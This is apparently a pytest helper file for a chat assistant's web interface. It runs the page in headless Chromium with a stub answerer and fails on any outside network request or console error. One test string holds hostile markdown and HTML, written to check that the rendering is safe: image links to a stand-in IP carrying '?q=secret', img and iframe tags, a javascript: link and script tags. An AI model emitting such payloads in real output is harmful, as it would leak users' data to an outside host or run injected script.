"""The real page, served with an answerer of our own and driven in headless Chromium.

Whatever a page asks of another machine, and whatever it complains about in its console, fails the test.
"""

import shutil
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from assistant.conversation import Conversation
from assistant.events import (
    Answer,
    Citation,
    Delta,
    Done,
    Event,
    Failed,
    Received,
    ReceivedEvidence,
    ReceivedFile,
    Status,
)
from assistant.evidence import Page, Seconds
from assistant.parts import Turn
from assistant.settings import Settings

ARGUMENTS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --use-fake-ui-for-media-stream "
    "--use-fake-device-for-media-stream --autoplay-policy=no-user-gesture-required"
).split()
EXTENSIONS = (".pdf", ".txt", ".png", ".wav", ".mp3")

RENT = "The rent is 950 euros a month."
ANSWERED = Answer(
    text=(
        "The rent is **950 euros** a month.[1] In the recording the landlord says it can rise every March.[2]\n\n"
        "You can probably bargain.\n\n"
        "| what | euros |\n|---|---|\n| rent | 950 |\n| heating | 80 |"
    ),
    citations=(
        Citation(1, "a", "lease.pdf", "text", Page(3), "The monthly rent amounts to 950 EUR."),
        Citation(2, "b", "call <b>1</b>.wav", "audio", Seconds(12, 19), "It may go up each March."),
    ),
    grounded=True,
    unsupported=("You can probably bargain.",),
    received=Received(
        question="What is the rent?",
        files=(
            ReceivedFile("lease.pdf", "text", "read", pages=4),
            ReceivedFile("call <b>1</b>.wav", "audio", "transcribed", seconds=31.5),
        ),
        evidence=(
            ReceivedEvidence("lease.pdf", "text", Page(3), 0.71),
            ReceivedEvidence("call <b>1</b>.wav", "audio", Seconds(12, 19), 0.29),
        ),
        media_weights=(("text", 0.6), ("audio", 0.4)),
        prompt_tokens=412,
        answer_tokens=37,
        notes=("Page 4 of lease.pdf has no text.",),
    ),
    timings=(("reading", 0.4), ("searching", 0.1), ("answering", 1.2)),
    models=(("answers", "a-small-model"), ("hears", "whisper base")),
)
REMOTE = (
    "Look: ![a picture](http://203.0.113.7/leak.png?q=secret) and ![again][r] "
    '<img src="http://203.0.113.7/raw.png"> <iframe src="http://203.0.113.7/frame"></iframe>\n\n'
    "[r]: http://203.0.113.7/reference.png\n\n"
    "[press](javascript:alert(1)) <script>alert(2)</script>\n\n"
    '```mermaid\ngraph TD; A["<img src=http://203.0.113.7/drawn.png>"]\n```\n\n'
    "```python\nif a < b: print('![x](http://203.0.113.7/code.png)')\n```\n\nThe end."
)


@dataclass
class Answers:
    """Answers by the words of the question, and remembers what was asked."""

    turns: list[tuple[str, Turn]] = field(default_factory=list)
    forgotten: list[str] = field(default_factory=list)
    stopped: int = 0
    loading: tuple[str, ...] = ()

    def answer(self, turn: Turn, conversation: Conversation, stop: threading.Event) -> Iterator[Event]:
        self.turns.append((conversation.id, turn))
        for file in turn.attachments:
            yield Status("listening" if file.spoken else "reading", f"Reading {file.name}")
        yield Status("answering", "Answering")
        match turn.text.split(" ")[0]:
            case "rent":
                yield from self._say(ANSWERED.text.replace("[1]", "").replace("[2]", ""), stop, 0.02)
                yield Done(ANSWERED)
            case "fail":
                yield Failed("I cannot read model/gltf files <yet>.", bad_input=True)
            case "crash":
                raise ValueError("the secret of the machine")
            case "slow":
                yield from self._say("word " * 2000, stop, 0.05)
                yield Done(Answer("word word", stopped=True))
            case "stuck":
                time.sleep(4)
                yield Done(Answer("too late"))
            case "remote":
                yield from self._say(REMOTE, stop, 0.01)
                yield Done(Answer(REMOTE))
            case _:
                names = ", ".join(file.name for file in turn.attachments)
                yield Done(Answer(f"You said {turn.text!r} and gave {names or 'nothing'}."))

    def _say(self, text: str, stop: threading.Event, pause: float) -> Iterator[Event]:
        try:
            for word in text.split(" "):
                if stop.wait(pause):
                    return
                yield Delta(word + " ")
        finally:
            self.stopped += stop.is_set()


@dataclass(frozen=True)
class Served:
    address: str
    answers: Answers


def free_port() -> int:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return int(one.getsockname()[1])


def serve() -> Iterator[Served]:
    """The page on a port of its own; to be used by a fixture."""
    from ui import page

    answers = Answers()
    built = page.build(answers.answer, answers.forgotten.append, lambda: answers.loading, EXTENSIONS)
    address = page.launch(built, Settings(port=free_port()), block=False)
    yield Served(address.rstrip("/"), answers)
    built.close()


def chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        if path := shutil.which(name):
            return path
    pytest.skip("no Chromium found: install Debian's chromium to run the tests of the page")


class Tab:
    """One tab as a person uses it, with a record of what went wrong in it."""

    def __init__(self, browser: Any, address: str, **options: Any) -> None:
        self.context = browser.new_context(permissions=["microphone"], **options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(15_000)
        self.complaints: list[str] = []
        self.page.on("request", lambda request: self._outside(request.url))
        self.page.on("console", lambda message: self._console(message))
        self.page.on("pageerror", lambda error: self.complaints.append(f"error: {error}"))
        self.page.goto(address, wait_until="domcontentloaded")
        self.page.wait_for_selector("#box textarea")

    def _outside(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "data:", "blob:http://127.0.0.1:")):
            self.complaints.append(f"asked another machine: {url}")

    def _console(self, message: Any) -> None:
        if message.type == "error":
            self.complaints.append(f"console: {message.text}")

    def ask(self, text: str) -> None:
        self.page.fill("#box textarea", text)
        self.page.click("#box [data-testid=submit-button]")

    def attach(self, *files: Path) -> None:
        self.page.set_input_files("#box input[type=file]", [str(file) for file in files])
        self.page.wait_for_function(
            f"document.querySelectorAll('#box .thumbnail-item').length >= {len(files)}", timeout=10_000
        )

    def idle(self) -> None:
        """Waits until the box takes a question again."""
        self.page.wait_for_selector("#box [data-testid=submit-button]")
        self.page.wait_for_selector("#box textarea:not([disabled])")

    def reads(self, text: str) -> None:
        """Waits until the chat shows this text."""
        self.page.wait_for_function("text => document.querySelector('#chat').innerText.includes(text)", arg=text)

    @property
    def text(self) -> str:
        return str(self.page.inner_text("#chat"))

    def close(self) -> None:
        self.context.close()
